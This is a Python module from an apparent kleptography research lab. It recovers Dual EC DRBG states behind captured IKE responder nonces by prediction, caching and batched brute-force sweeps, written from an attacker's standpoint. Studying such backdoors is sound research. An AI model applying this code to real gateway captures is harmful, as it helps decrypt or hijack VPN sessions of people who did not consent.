"""Find the Dual EC state behind each responder nonce: predict first, sweep only the rest.

A real attacker with a capture of hundreds of handshakes from one gateway
does not pay a 2^16 sweep per nonce: the gateway's nonces come from one PRNG
stream, so the walk forward from one recovered state usually *predicts* the
next nonce exactly, and the state after a predicted output is already known.
:func:`anchor_nonces` therefore goes through the nonces in capture order and,
for each one, in this order of cost:

1. **predicted** — some walked state produced this very output
   (:meth:`~kleptolab.attack.prng_walk.PrngWalker.reanchor`): adopt the state
   after it, no sweep;
2. **state cache** — an earlier run stored this very nonce, or the state store
   knows this gateway and a walk forward from its latest known states
   (:class:`~kleptolab.attack.forward.ForwardWindow`, bounded) produces it;
3. **sweep** — the unpredicted nonces are swept in parallel batches.  A batch
   starts at one nonce; when its states predict none of the nonces still
   waiting (another gateway, a foreign Q, a long gap), the next batch doubles,
   so a capture whose nonces are unrelated costs at most log2(n) extra rounds.
"""

from __future__ import annotations

import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Any

from kleptolab.attack.forward import ForwardWindow, Lineage
from kleptolab.attack.prng_walk import Anchor, DrawRef, PrngWalker
from kleptolab.attack.recovery import NonceCache
from kleptolab.attack.store import KnownState

__all__ = ["CACHE", "PREDICTED", "SWEEP", "Recovery", "Sighting", "anchor_nonces"]

SWEEP, PREDICTED, CACHE = "sweep", "predicted", "state cache"

Sweep = Callable[[list[bytes]], dict[bytes, list[int]]]
"""Sweeps a batch of nonces (in parallel); returns the candidate states of each."""


@dataclass(frozen=True)
class Sighting:
    """A 32-byte responder nonce of IKE SA ``session``, seen at capture position ``order``."""

    session: str
    label: str
    nonce: bytes
    order: int


@dataclass(frozen=True)
class Recovery:
    """How the state(s) behind one nonce were found, and what it cost."""

    how: str  # SWEEP, PREDICTED or CACHE
    states: int
    seconds: float
    batch: int = 1  # nonces swept together (the batch's wall time is ``seconds``)
    source: DrawRef | None = None  # for PREDICTED: the draw that produced the nonce
    walked: int = 0  # for CACHE found by the forward window: calls walked from a stored state

    def describe(self) -> str:
        """``sweep``, ``state cache`` or ``predicted from <session> draw <k>``."""
        if self.how == PREDICTED and self.source is not None:
            return f"predicted from {self.source.anchor.session} draw {self.source.offset}"
        if self.walked:
            return f"{self.how} (walked {self.walked} draws from a stored state)"
        return self.how

    def to_json(self) -> dict[str, Any]:
        """JSON-ready details for report.json."""
        data: dict[str, Any] = {"how": self.how, "states": self.states, "seconds": round(self.seconds, 4)}
        if self.how == SWEEP:
            data["batch"] = self.batch
        if self.walked:
            data["walked"] = self.walked
        if self.source is not None:
            data["from_session"] = self.source.anchor.session
            data["from_nonce"] = self.source.anchor.label
            data["draw"] = self.source.offset
        return data


def _dedupe(sightings: Sequence[Sighting]) -> list[Sighting]:
    first: dict[bytes, Sighting] = {}
    for s in sorted(sightings, key=lambda s: s.order):
        first.setdefault(s.nonce, s)
    return list(first.values())


def anchor_nonces(
    sightings: Sequence[Sighting], walker: PrngWalker, sweep: Sweep, cache: NonceCache,
    progress: Callable[[int, int], None] | None = None,
    window: ForwardWindow | None = None, lineage: Lineage | None = None, grow: bool = True,
) -> dict[bytes, Recovery]:
    """Anchor ``walker`` at every nonce (see the module docstring); how each was recovered.

    Predicted states are also put in ``cache``, so a saved cache spares the next run too.
    ``window`` (one gateway's stored states) is tried before the cache and the sweep;
    every recovered state is also added to it, and placed in ``lineage`` when given.
    ``grow=False`` keeps batches at one nonce: the fewest sweeps when the nonces are one
    gateway's (a nonce without a state, e.g. hit by the BN_bn2bin quirk, costs one extra sweep,
    not a doubled batch); parallelism then comes from sweeping several gateways at once.
    """
    pending = _dedupe(sightings)
    total, found = len(pending), dict[bytes, Recovery]()
    batch = 1
    places = lineage if lineage is not None else Lineage()

    def tick() -> None:
        if progress is not None:
            progress(len(found), total)

    def keep(anchor: Anchor, epoch: int, position: int) -> None:
        places.place(anchor.nonce, anchor.state, epoch, position)
        if window is not None:
            epoch, position = places.of(anchor.nonce, anchor.state) or (epoch, position)
            window.add(KnownState(anchor.nonce, anchor.state, epoch, position))

    while pending:
        waiting = []
        for s in pending:
            t0 = time.perf_counter()
            anchors = walker.reanchor(s.nonce, s.session, f"{s.label} (predicted)", s.order)
            if anchors:
                cache.put(s.nonce, [a.state for a in anchors] + (cache.get(s.nonce) or []))
                source = walker.source(anchors[0])
                found[s.nonce] = Recovery(PREDICTED, len(anchors), time.perf_counter() - t0, source=source)
                for a in anchors:
                    ref = walker.source(a)
                    base = places.of(ref.anchor.nonce, ref.anchor.state) if ref is not None else None
                    if ref is not None and base is not None:
                        keep(a, base[0], base[1] + ref.offset)
                continue
            if s.nonce in cache:
                cached = cache.get(s.nonce) or []
                epoch = places.new_epoch()
                for state in cached:
                    anchor = Anchor(s.session, s.label, s.order, s.nonce, state)
                    walker.add(anchor)
                    keep(anchor, epoch, 0)
                found[s.nonce] = Recovery(CACHE, len(cached), time.perf_counter() - t0)
                continue
            hit = window.find(s.nonce) if window is not None else None
            if hit is not None:
                start, offset, state, later, later_states = hit
                anchor = Anchor(s.session, s.label, s.order, s.nonce, state)
                walker.add(anchor, (later, later_states))
                cache.put(s.nonce, [state])
                keep(anchor, start.epoch, start.position + offset)
                found[s.nonce] = Recovery(CACHE, 1, time.perf_counter() - t0, walked=offset)
            else:
                waiting.append(s)
        tick()
        if not waiting:
            break
        chosen, pending = waiting[:batch], waiting[batch:]
        t0 = time.perf_counter()
        states = sweep([s.nonce for s in chosen])
        seconds = time.perf_counter() - t0
        for s in chosen:
            epoch = places.new_epoch()
            if states.get(s.nonce) and s.nonce not in cache:
                cache.put(s.nonce, states[s.nonce])
            for state in states.get(s.nonce, []):
                anchor = Anchor(s.session, s.label, s.order, s.nonce, state)
                walker.add(anchor)
                keep(anchor, epoch, 0)
            found[s.nonce] = Recovery(SWEEP, len(states.get(s.nonce, [])), seconds, len(chosen))
        tick()
        if grow:
            batch = 1 if any(walker.predicts(s.nonce) for s in pending) else 2 * batch
    return found
